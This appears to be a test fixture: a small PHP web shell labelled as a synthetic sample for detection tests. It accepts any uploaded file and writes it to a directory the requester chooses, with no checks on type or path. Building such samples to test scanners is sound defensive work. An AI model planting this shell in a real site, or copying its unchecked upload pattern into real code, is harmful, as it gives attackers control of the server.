<?php
// Synthetic uploader webshell for skimwatch tests.
if (!empty($_FILES['f'])) {
    if (move_uploaded_file($_FILES['f']['tmp_name'], $_POST['dir'] . '/' . $_FILES['f']['name'])) {
        echo 'ok';
    }
}
?>
<form method="post" enctype="multipart/form-data"><input type="file" name="f"><input name="dir"><input type="submit"></form>
